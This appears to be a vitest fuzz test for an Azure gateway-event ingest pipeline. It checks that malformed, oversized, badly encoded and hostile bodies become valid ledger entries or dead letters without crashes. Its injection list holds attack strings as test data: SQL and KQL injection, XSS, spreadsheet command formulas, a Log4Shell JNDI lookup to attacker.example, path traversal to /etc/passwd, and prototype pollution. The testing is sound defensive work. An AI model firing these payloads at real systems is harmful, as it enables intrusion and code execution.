import { readFileSync } from 'node:fs';
import functions from '@azure/functions';
import { LogsQueryResultStatus, type LogsQueryResult } from '@azure/monitor-query-logs';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { createIngestHandler } from '../../functions/handlers/ingest-gateway-events.js';
import { LogAnalyticsLlmUsageSource } from '../../src/adapters/log-analytics/log-analytics-diagnostics-source.js';
import { GATEWAY_EVENT_SCHEMA_V1 } from '../../src/contracts/gateway-event.js';
import { ingestBatch, sortBatch } from '../../src/services/ingest-batch.js';
import { joinDiagnostics } from '../../src/services/join-diagnostics.js';
import { simulateDay } from '../../src/simulator/traffic.js';
import { MemoryAggregateStore, MemoryDeadLetterStore, MemoryDiagnosticsStore, MemoryLedgerStore, MemoryQuarantineStore, MemoryWatermarkStore } from '../support/memory-stores.js';
import { FileCounters } from './support/counters.js';
import { checkBody, deadLetterProblem, expectationFor, ledgerProblem, ONE_MIB } from './support/input-oracle.js';

const counters = new FileCounters('bad-input.test.ts');
const NOW = Date.now();
/** The day before yesterday (UTC), so valid events are valid whatever the clock says. */
const DAY = new Date(NOW - 2 * 86_400_000).toISOString().slice(0, 10);
const day = simulateDay({ requests: 300, seed: 8, day: DAY });
const validEvents: Record<string, unknown>[] = day.eventLines.flatMap((line) => {
  try {
    const value = JSON.parse(line) as Record<string, unknown>;
    return value['schema'] === GATEWAY_EVENT_SCHEMA_V1 && sortBatch([{ body: line, position: { partitionId: '0', sequenceNumber: 0, offset: null, enqueuedTimeUtc: null } }]).entries.length === 1 ? [value] : [];
  } catch {
    return [];
  }
});
const withUsage = validEvents.find((e) => e['usage'] !== null && e['caller'] !== null)!;
const gatewayLogs = readFileSync(new URL('../fixtures/apim-gatewaylogs.records.json', import.meta.url), 'utf8');

const INJECTIONS = [
  "'; DROP TABLE ledger; --",
  '" | union *',
  '\\" | union AzureDiagnostics //',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../etc/passwd',
  'a/b\\c?d#e',
  'null',
  '\u0000\u0001\u001f',
  '\u202eevil',
  'x'.repeat(257),
];

/** Sets a value at a path, creating objects on the way; own properties only (`__proto__` stays data, as JSON.parse makes it). */
function setPath(target: Record<string, unknown>, path: readonly string[], value: unknown): void {
  let node = target;
  for (const key of path.slice(0, -1)) {
    const next = node[key];
    if (next === null || typeof next !== 'object' || Array.isArray(next)) {
      Object.defineProperty(node, key, { value: {}, enumerable: true, writable: true, configurable: true });
    }
    node = node[key] as Record<string, unknown>;
  }
  const last = path.at(-1)!;
  if (value === DELETE) delete node[last];
  else Object.defineProperty(node, last, { value, enumerable: true, writable: true, configurable: true });
}

const DELETE = Symbol('delete');

function mutated(base: Record<string, unknown>, changes: readonly (readonly [readonly string[], unknown])[]): Record<string, unknown> {
  const copy = structuredClone(base);
  for (const [path, value] of changes) setPath(copy, path, value);
  return copy;
}

function nested(depth: number, leaf: unknown): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? [value] : { a: value };
  return value;
}

/** The three ways the host hands a body over: parsed JSON, a string, bytes. */
function forms(value: unknown): unknown[] {
  if (typeof value === 'string') return [value, Buffer.from(value, 'utf8')];
  if (value instanceof Uint8Array) return [value];
  let text: string | undefined;
  try {
    text = JSON.stringify(value);
  } catch {
    text = undefined;
  }
  return text === undefined ? [value] : [value, text, Buffer.from(text, 'utf8')];
}

function corpus(): { name: string; body: unknown }[] {
  const v = withUsage;
  const usage = v['usage'] as Record<string, number>;
  const items: { name: string; value: unknown }[] = [
    // malformed JSON
    ...['', ' ', '{', '[', '{"schema":', '{"a":1,}', "{'a':1}", 'NaN', 'undefined', 'null', 'true', '42', '"text"', '[]', '{}', '{"records":[]}', '{"records":"x"}', '\u0000', `${JSON.stringify(v)} trailing`, `${JSON.stringify(v)}${JSON.stringify(v)}`].map((text, i) => ({ name: `malformed-json-${i}`, value: text })),
    { name: 'bom', value: `\ufeff${JSON.stringify(v)}` },
    { name: 'double-bom', value: `\ufeff\ufeff${JSON.stringify(v)}` },
    // wrong types
    ...[
      ['schema', 1],
      ['schema', 'tokenledger.gateway/v2'],
      ['gatewayRequestId', 123],
      ['gatewayRequestId', ''],
      ['gatewayRequestId', '   '],
      ['time', 1_795_339_531_194],
      ['time', 'yesterday'],
      ['gateway', 'contoso-apim'],
      ['caller', 'user'],
      ['stream', 'false'],
      ['status', '200'],
      ['status', 200.5],
      ['status', 999],
      ['usage', []],
      ['usage', 'lots'],
      ['timings', 12],
    ].map(([key, value]) => ({ name: `wrong-type-${String(key)}-${JSON.stringify(value)}`, value: mutated(v, [[[String(key)], value]]) })),
    // NaN, negative, overflowing token counts
    ...[NaN, Infinity, -Infinity, -1, 1.5, 100_000_001, 2 ** 53, 2 ** 53 + 2, Number.MAX_VALUE, '12', '12a', null, true].map((n) => ({
      name: `tokens-${String(n)}`,
      value: mutated(v, [[['usage', 'promptTokens'], n]]),
    })),
    { name: 'tokens-1e400-text', value: JSON.stringify(v).replace(/"promptTokens":\d+/, '"promptTokens":1e400') },
    { name: 'tokens-negative-zero-text', value: JSON.stringify(v).replace(/"reasoningTokens":\d+/, '"reasoningTokens":-0') },
    { name: 'tokens-cached-over-prompt', value: mutated(v, [[['usage', 'cachedTokens'], usage['promptTokens']! + 1]]) },
    { name: 'tokens-total-mismatch', value: mutated(v, [[['usage', 'totalTokens'], 1]]) },
    { name: 'rate-limit-negative', value: mutated(v, [[['rateLimit', 'remainingTokens'], -5]]) },
    { name: 'timings-NaN', value: mutated(v, [[['timings', 'totalMs'], NaN]]) },
    { name: 'timings-two-days', value: mutated(v, [[['timings', 'totalMs'], 2 * 86_400_000]]) },
    // timestamps
    ...[
      '2999-01-01T00:00:00Z',
      '9999-12-31T23:59:59Z',
      '+275760-09-13T00:00:00.000Z',
      new Date(NOW + 25 * 3_600_000).toISOString(),
      new Date(NOW + 23 * 3_600_000).toISOString(),
      '2026-02-30T00:00:00Z',
      '2026-11-21T24:00:00Z',
      '2026-11-21T10:00:60Z',
      '2026-11-21T10:00:00',
      '2026-11-21',
      '2026-11-21t10:00:00z',
      '2026-11-21T10:00:00+99:99',
      '0001-01-01T00:00:00Z',
      '1970-01-01T00:00:00Z',
    ].map((time) => ({ name: `time-${time}`, value: mutated(v, [[['time'], time]]) })),
    // injection strings in ids and claims
    ...INJECTIONS.flatMap((text, i) =>
      [['gatewayRequestId'], ['apimRequestId'], ['caller', 'oid'], ['caller', 'upn'], ['caller', 'appid'], ['subscriptionId'], ['deployment'], ['gateway', 'service'], ['gateway', 'backendId']].map((path) => ({
        name: `injection-${i}-${path.join('.')}`,
        value: mutated(v, [[path, text]]),
      })),
    ),
    // prototype pollution attempts stay data
    { name: 'proto-text', value: JSON.stringify(v).replace('{', '{"__proto__":{"polluted":"yes"},') },
    { name: 'constructor-prototype', value: mutated(v, [[['constructor', 'prototype', 'polluted'], 'yes']]) },
    { name: 'proto-caller', value: JSON.stringify(v).replace('"caller":{', '"caller":{"__proto__":{"oid":"admin"},') },
    // deep nesting
    { name: 'deep-array-text', value: `${'['.repeat(200_000)}${']'.repeat(200_000)}` },
    { name: 'deep-object-text', value: `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}` },
    { name: 'deep-unknown-field', value: mutated(v, [[['extra'], nested(5_000, 1)]]) },
    { name: 'deep-item-in-array', value: [v, nested(20_000, 1)] },
    { name: 'deep-claim', value: mutated(v, [[['caller', 'oid'], nested(2_000, 'x')]]) },
    // arrays and envelopes
    { name: 'array-mixed', value: [v, 1, null, 'x', [], {}, mutated(v, [[['status'], 999]])] },
    { name: 'records-mixed', value: { records: [v, { category: 'GatewayLogs' }, { category: 'Audit' }, 7] } },
    { name: 'apim-gateway-logs-fixture', value: gatewayLogs },
    { name: 'ai-hub-negative', value: { id: 'ai-1', timestamp: '11/20/2026 10:00:00', promptTokens: -5, responseTokens: 2 } },
    { name: 'ai-hub-huge', value: { id: 'ai-2', timestamp: '11/20/2026 10:00:00', promptTokens: '999999999999', responseTokens: 2 } },
    { name: 'ai-hub-injection', value: { id: "'; DROP TABLE x; --", timestamp: '11/20/2026 10:00:00', promptTokens: 5, responseTokens: 2, appId: '<script>', deploymentName: '=cmd|' } },
  ];
  const bodies: { name: string; body: unknown }[] = items.flatMap(({ name, value }) => forms(value).map((body, i) => ({ name: `${name}/${['first', 'second', 'third'][i]}`, body })));
  // huge bodies, around the 1 MiB limit
  const pad = (bytes: number) => {
    const text = JSON.stringify(v);
    return `${text}${' '.repeat(bytes - Buffer.byteLength(text))}`;
  };
  bodies.push(
    { name: 'exactly-1MiB-string', body: pad(ONE_MIB) },
    { name: '1MiB-plus-one-string', body: pad(ONE_MIB + 1) },
    { name: '1MiB-plus-one-bytes', body: Buffer.from(pad(ONE_MIB + 1)) },
    { name: '2MiB-bytes', body: Buffer.alloc(2 * ONE_MIB, 0x7b) },
    { name: 'huge-field-object', body: mutated(v, [[['extra'], 'x'.repeat(ONE_MIB + 10)]]) },
    { name: 'huge-array-object', body: Array.from({ length: 1_500 }, () => v) },
    { name: 'huge-array-text', body: JSON.stringify(Array.from({ length: 1_500 }, () => v)) },
  );
  // invalid UTF-8
  const text = Buffer.from(JSON.stringify(v));
  bodies.push(
    ...[
      [0xff, 0xfe],
      [0xc0, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xf4, 0x90, 0x80, 0x80],
      [0xe2, 0x82],
      [0x80],
    ].flatMap((bad, i) => [
      { name: `invalid-utf8-${i}`, body: Buffer.from(bad) },
      { name: `invalid-utf8-in-event-${i}`, body: Buffer.concat([text.subarray(0, 40), Buffer.from(bad), text.subarray(40)]) },
      { name: `invalid-utf8-tail-${i}`, body: Buffer.concat([text, Buffer.from(bad)]) },
    ]),
    { name: 'lone-surrogate-string', body: JSON.stringify(v).replace(/"upn":"[^"]*"/, '"upn":"\\udc00"') },
  );
  // bodies the host would never send, but a broken producer library might
  const circular: Record<string, unknown> = { ...v };
  circular['self'] = circular;
  bodies.push({ name: 'circular-object', body: circular }, { name: 'bigint-field', body: { ...v, extra: 10n } }, { name: 'undefined-body', body: undefined }, { name: 'symbol-body', body: Symbol('x') }, { name: 'array-buffer', body: new TextEncoder().encode(JSON.stringify(v)).buffer });
  return bodies;
}

// ---- generators ----

const PATHS: readonly (readonly string[])[] = [
  ['schema'], ['gatewayRequestId'], ['apimRequestId'], ['time'], ['gateway'], ['gateway', 'service'], ['gateway', 'region'], ['gateway', 'backendId'],
  ['backendRegion'], ['subscriptionId'], ['productId'], ['caller'], ['caller', 'oid'], ['caller', 'tid'], ['caller', 'appid'], ['caller', 'idtyp'],
  ['caller', 'upn'], ['caller', 'sub'], ['deployment'], ['model'], ['operation'], ['stream'], ['status'], ['usage'], ['usage', 'promptTokens'],
  ['usage', 'cachedTokens'], ['usage', 'completionTokens'], ['usage', 'reasoningTokens'], ['usage', 'totalTokens'], ['timings'], ['timings', 'totalMs'],
  ['timings', 'backendMs'], ['timings', 'ttftMs'], ['rateLimit', 'remainingRequests'], ['rateLimit', 'remainingTokens'], ['__proto__'], ['records'], ['category'],
  ['promptTokens'], ['responseTokens'],
];
const HOSTILE_VALUES: readonly unknown[] = [
  NaN, Infinity, -Infinity, -1, -0, 0, 1.5, 2 ** 53, 2 ** 53 + 2, 100_000_000, 100_000_001, Number.MAX_VALUE, Number.MIN_VALUE, '12', '', ' ', null, DELETE,
  true, false, [], {}, [1], { a: 1 }, ...INJECTIONS, 'x'.repeat(600), '\ud800', '\udfff\ud800', '2999-01-01T00:00:00Z', '0001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.000Z', '2026-02-30T00:00:00Z', GATEWAY_EVENT_SCHEMA_V1, 'tokenledger.gateway/v2', 'user', 'app', 'GatewayLogs', 'GatewayLlmLogs',
  nested(300, 1),
];
const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE_VALUES),
  fc.jsonValue({ maxDepth: 3 }),
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.integer(),
  fc.double(),
  fc.date({ noInvalidDate: false }).map((d) => (Number.isNaN(d.getTime()) ? 'Invalid Date' : d.toISOString())),
);
const mutation = fc.tuple(fc.constantFrom(...PATHS), anyValue);
const form = fc.constantFrom<'object' | 'text' | 'bytes'>('object', 'text', 'bytes');
const deliver = (value: unknown, how: 'object' | 'text' | 'bytes'): unknown => {
  if (how === 'object') return value;
  const text = JSON.stringify(value) ?? 'undefined';
  return how === 'text' ? text : Buffer.from(text, 'utf8');
};
const mutatedEvent = fc.tuple(fc.constantFrom(...validEvents), fc.array(mutation, { minLength: 1, maxLength: 4 }), form).map(([base, changes, how]) => deliver(mutated(base, changes), how));
const arbitraryJson = fc.tuple(fc.jsonValue(), form).map(([value, how]) => deliver(value, how));
const randomBytes = fc.oneof(
  fc.uint8Array({ maxLength: 2_048 }).map((bytes) => Buffer.from(bytes)),
  fc.tuple(fc.constantFrom(...validEvents), fc.uint8Array({ minLength: 1, maxLength: 64 }), fc.nat()).map(([event, noise, at]) => {
    const text = Buffer.from(JSON.stringify(event));
    const cut = at % text.length;
    return Buffer.concat([text.subarray(0, cut), Buffer.from(noise), text.subarray(cut)]);
  }),
);
/** Character-level edits of a valid event's text: inserted, deleted and replaced characters from a hostile alphabet. */
const textEdits = fc
  .tuple(fc.constantFrom(...validEvents), fc.array(fc.tuple(fc.nat(), fc.nat({ max: 3 }), fc.string({ unit: fc.constantFrom('"', '\\', '{', '}', '[', ']', ',', ':', '0', '-', 'e', '.', 'n', '\u0000', '\ud800', 'é', ' ') , maxLength: 4 })), { minLength: 1, maxLength: 5 }))
  .map(([event, edits]) => {
    let text = JSON.stringify(event);
    for (const [at, remove, insert] of edits) {
      const i = at % (text.length + 1);
      text = text.slice(0, i) + insert + text.slice(i + remove);
    }
    return text;
  });

interface FuzzTally {
  runs: number;
  entries: number;
  deadLetters: number;
  lost: number;
  doubled: number;
  problems: string[];
}

/** Runs a property over generated bodies; every body counts as an input, whatever the outcome. */
function fuzz(name: string, arbitrary: fc.Arbitrary<unknown>, numRuns: number, seed: number): FuzzTally {
  const tally: FuzzTally = { runs: 0, entries: 0, deadLetters: 0, lost: 0, doubled: 0, problems: [] };
  const result = fc.check(
    fc.property(arbitrary, (body) => {
      tally.runs++;
      const verdict = checkBody(body, NOW);
      tally.entries += verdict.entries;
      tally.deadLetters += verdict.deadLetters;
      tally.lost += verdict.lost;
      tally.doubled += verdict.doubled;
      if (verdict.problems.length > 0 && tally.problems.length < 10) tally.problems.push(...verdict.problems.map((p) => `${name}: ${p}`));
      return verdict.lost === 0 && verdict.doubled === 0 && verdict.problems.length === 0;
    }),
    { numRuns, seed, endOnFailure: true },
  );
  counters.add('inputs', tally.runs, `fuzz.${name}`);
  counters.note(`fuzz-outcomes.${name}.ledger-entries`, tally.entries);
  counters.note(`fuzz-outcomes.${name}.dead-letters`, tally.deadLetters);
  counters.add('lost', tally.lost);
  counters.add('doubled', tally.doubled);
  if (result.failed) {
    counters.add('crashes', 1, `fuzz.${name}`);
    tally.problems.push(`${name}: counterexample ${fc.stringify(result.counterexample).slice(0, 500)}`);
  }
  return tally;
}

describe('bad input: every body ends as exactly one ledger entry or dead letter per item, never a crash', () => {
  afterAll(() => {
    counters.save();
  });

  it('the oracle flags invalid ledger entries and counts items on its own (self-check)', () => {
    const entry = sortBatch([{ body: withUsage, position: { partitionId: '0', sequenceNumber: 0, offset: null, enqueuedTimeUtc: null } }]).entries[0]!;
    expect(ledgerProblem(entry, NOW)).toBeNull();
    const broken = [
      { ...entry, tokens: { ...entry.tokens, promptTokens: -1 } },
      { ...entry, tokens: { ...entry.tokens, cachedTokens: entry.tokens.promptTokens + 1 } },
      { ...entry, tokens: { ...entry.tokens, completionTokens: 1.5 } },
      { ...entry, id: 'a/b' },
      { ...entry, time: new Date(NOW + 3 * 86_400_000).toISOString() },
      { ...entry, time: 'yesterday' },
      { ...entry, gatewayRequestId: '' },
      { ...entry, status: 999 },
    ];
    for (const bad of broken) expect(ledgerProblem(bad, NOW), JSON.stringify(bad).slice(0, 80)).not.toBeNull();
    expect(expectationFor('[1,2,3]')).toEqual({ kind: 'items', items: 3 });
    expect(expectationFor({ records: [{}, {}] })).toEqual({ kind: 'items', items: 2 });
    expect(expectationFor(Buffer.from([0xff]))).toEqual({ kind: 'body' });
    expect(expectationFor('[]')).toEqual({ kind: 'body' });
    expect(expectationFor('"x"')).toEqual({ kind: 'body' });
  });

  it('sorts a hand-written corpus of malformed, oversized, deep, badly encoded, out-of-range and hostile bodies', () => {
    const bodies = corpus();
    const problems: string[] = [];
    let entries = 0;
    let letters = 0;
    for (const { name, body } of bodies) {
      const verdict = checkBody(body, NOW);
      counters.add('lost', verdict.lost);
      counters.add('doubled', verdict.doubled);
      counters.add('crashes', verdict.problems.length > 0 ? 1 : 0);
      entries += verdict.entries;
      letters += verdict.deadLetters;
      if (verdict.lost + verdict.doubled > 0 || verdict.problems.length > 0) problems.push(`${name}: lost ${verdict.lost}, doubled ${verdict.doubled}, ${verdict.problems.join('; ')}`);
    }
    counters.add('inputs', bodies.length, 'corpus');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(problems).toEqual([]);
    expect(bodies.length).toBeGreaterThan(400);
    expect(entries).toBeGreaterThan(100);
    expect(letters).toBeGreaterThan(200);
  });

  it('keeps hostile ids as data: hashed into Cosmos-safe ledger ids, the text kept exactly', () => {
    for (const text of INJECTIONS.filter((t) => t.trim() !== '' && t.length <= 256)) {
      const sorted = sortBatch([{ body: mutated(withUsage, [[['gatewayRequestId'], text], [['apimRequestId'], text], [['caller', 'oid'], text]]), position: { partitionId: '0', sequenceNumber: 0, offset: null, enqueuedTimeUtc: null } }]);
      counters.add('inputs', 1, 'injection-ids');
      expect(sorted.entries, text).toHaveLength(1);
      const entry = sorted.entries[0]!;
      expect(entry.id).toMatch(/^[A-Za-z0-9._:-]{1,128}$/);
      if (!/^[A-Za-z0-9._:-]{1,128}$/.test(text.trim())) expect(entry.id).toMatch(/^a-[0-9a-f]{32}$/);
      expect(entry.gatewayRequestId).toBe(text.trim());
      expect(entry.apimRequestId).toBe(text.trim().toLowerCase());
      expect(entry.caller.oid).toBe(text.trim().toLowerCase());
    }
  });

  it('fuzzes sortBatch with generated bodies: arbitrary JSON, mutated v1 events, random bytes and text edits', () => {
    const tallies = [
      fuzz('arbitrary-json', arbitraryJson, 3_000, 101),
      fuzz('mutated-v1', mutatedEvent, 5_000, 202),
      fuzz('random-bytes', randomBytes, 2_000, 303),
      fuzz('text-edits', textEdits, 1_500, 404),
    ];
    expect(tallies.flatMap((t) => t.problems)).toEqual([]);
    // The mutations reach both sides: some stay valid v1 events, most are rejected.
    const [, mutatedV1] = tallies;
    expect(mutatedV1!.entries).toBeGreaterThan(500);
    expect(mutatedV1!.deadLetters).toBeGreaterThan(2_000);
    expect(tallies.reduce((sum, t) => sum + t.lost + t.doubled, 0)).toBe(0);
    expect(tallies.reduce((sum, t) => sum + t.runs, 0)).toBeGreaterThanOrEqual(11_500);
  });

  it('ingests generated batches through ingestBatch with memory stores: only valid entries reach the ledger, every rejection has a reason', async () => {
    const body = fc.oneof(mutatedEvent, arbitraryJson, randomBytes, textEdits, fc.constantFrom(...validEvents.map((e) => JSON.stringify(e))));
    let runs = 0;
    let bodies = 0;
    const problems: string[] = [];
    await fc.assert(
      fc.asyncProperty(fc.array(body, { minLength: 1, maxLength: 25 }), async (batch) => {
        runs++;
        bodies += batch.length;
        const ledger = new MemoryLedgerStore();
        const deadLetters = new MemoryDeadLetterStore();
        const events = batch.map((b, i) => ({ body: b, position: { partitionId: '1', sequenceNumber: i, offset: String(i), enqueuedTimeUtc: null } }));
        const expected = batch.map(expectationFor).reduce((sum, e) => sum + (e.kind === 'body' ? 1 : e.items), 0);
        let result;
        try {
          result = await ingestBatch(events, { ledger, deadLetters, aggregates: new MemoryAggregateStore(), diagnostics: new MemoryDiagnosticsStore() });
        } catch (error) {
          problems.push(`ingestBatch threw ${String(error).slice(0, 200)}`);
          return false;
        }
        for (const entry of ledger.snapshot()) {
          const problem = ledgerProblem(entry, NOW);
          if (problem) problems.push(problem);
        }
        for (const letter of deadLetters.snapshot()) {
          const problem = deadLetterProblem(letter);
          if (problem) problems.push(problem);
        }
        // Outcomes per item; a body whose items cannot be re-serialised is one dead letter.
        const outcomes = result.accepted + result.deadLettered;
        if (outcomes > expected) problems.push(`${outcomes} outcomes for ${expected} items`);
        if (outcomes < expected && !batch.some((b) => expectationFor(b).kind === 'items' && checkBody(b, NOW).deadLetters === 1 && checkBody(b, NOW).entries === 0)) {
          problems.push(`${outcomes} outcomes for ${expected} items`);
        }
        return problems.length === 0;
      }),
      { numRuns: 300, seed: 505 },
    ).catch((error: unknown) => problems.push(String(error).slice(0, 1_000)));
    counters.add('inputs', bodies, 'ingest-batch');
    counters.add('crashes', problems.length > 0 ? 1 : 0);
    expect(problems).toEqual([]);
    expect(runs).toBe(300);
  });

  it('runs the corpus through the Event Hubs handler with hostile trigger metadata, without a throw', async () => {
    const ledger = new MemoryLedgerStore();
    const deadLetters = new MemoryDeadLetterStore();
    const quarantine = new MemoryQuarantineStore();
    const handler = createIngestHandler(() => ({ ledger, deadLetters, aggregates: new MemoryAggregateStore(), diagnostics: new MemoryDiagnosticsStore(), quarantine }));
    const bodies = corpus().map((c) => c.body);
    const metadata: unknown[] = [
      {},
      null,
      { partitionContext: null, sequenceNumberArray: 'x' },
      { partitionContext: { partitionId: 7 }, sequenceNumberArray: ['NaN'], offsetArray: [{}] },
      { partitionContext: { partitionId: '0' }, sequenceNumberArray: [1], enqueuedTimeUtcArray: [null] },
      { __proto__: { polluted: true }, partitionContext: { partitionId: '<script>' } },
    ];
    let crashes = 0;
    for (let i = 0; i < bodies.length; i += 25) {
      const context = new functions.InvocationContext({ logHandler: () => {}, triggerMetadata: metadata[(i / 25) % metadata.length] as Record<string, unknown> });
      try {
        await handler(bodies.slice(i, i + 25), context);
      } catch {
        crashes++;
      }
    }
    counters.add('inputs', bodies.length, 'handler');
    // A batch quarantined here would be a failure the handler swallowed: bad input must be dead-lettered instead.
    counters.add('crashes', crashes + quarantine.batches.size);
    expect(crashes).toBe(0);
    expect([...quarantine.batches.values()].map((q) => q.batch.reason)).toEqual([]);
    for (const entry of ledger.snapshot()) expect(ledgerProblem(entry, NOW)).toBeNull();
    for (const letter of deadLetters.snapshot()) expect(deadLetterProblem(letter)).toBeNull();
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  // A year-0000 time with a positive offset is in year -1 UTC: it must be dead-lettered, never stored with a
  // partition key that is not an hour.
  it('never stores a time before 2020', () => {
    counters.add('inputs', 1, 'known-bug.year-minus-one');
    const sorted = sortBatch([{ body: mutated(withUsage, [[['time'], '0000-01-01T00:30:00+01:00']]), position: { partitionId: '0', sequenceNumber: 0, offset: null, enqueuedTimeUtc: null } }]);
    for (const entry of sorted.entries) expect(ledgerProblem(entry, NOW)).toBeNull();
  });

  // A gatewayRequestId holding a lone UTF-16 surrogate would make kqlString refuse it in every join run that asks
  // Log Analytics for LLM usage: it is dead-lettered at ingest instead.
  it('a hostile gatewayRequestId never stops the join', async () => {
    counters.add('inputs', 1, 'known-bug.lone-surrogate-join');
    const ledger = new MemoryLedgerStore();
    const ports = { ledger, deadLetters: new MemoryDeadLetterStore(), aggregates: new MemoryAggregateStore(), diagnostics: new MemoryDiagnosticsStore() };
    const streamed = mutated(withUsage, [[['gatewayRequestId'], 'gw-\ud800'], [['stream'], true], [['usage'], null], [['apimRequestId'], null]]);
    await ingestBatch([{ body: JSON.stringify(streamed), position: { partitionId: '0', sequenceNumber: 0, offset: null, enqueuedTimeUtc: null } }], ports);
    // Either fix is fine: the event is dead-lettered at ingest, or the join copes with the id.
    if (ledger.entries.size === 0) return;
    const emptyUsage: LogsQueryResult = {
      status: LogsQueryResultStatus.Success,
      tables: [{ name: 'PrimaryResult', columnDescriptors: [{ name: 'CorrelationId', type: 'string' }, { name: 'PromptTokens', type: 'long' }, { name: 'CompletionTokens', type: 'long' }, { name: 'TotalTokens', type: 'long' }], rows: [] }],
    };
    const llmUsage = new LogAnalyticsLlmUsageSource({ client: { queryWorkspace: async () => emptyUsage }, workspaceId: 'w' });
    const source = { readSince: async () => ({ records: [], rejected: [], nextWatermark: null, more: false }) };
    const run = joinDiagnostics(
      { source, watermarks: new MemoryWatermarkStore(), ledger, diagnostics: new MemoryDiagnosticsStore(), deadLetters: ports.deadLetters, aggregates: ports.aggregates, llmUsage },
      { now: new Date(NOW), graceInMs: 0, watermarkName: 'w' },
    );
    await expect(run).resolves.toBeDefined();
  });
});
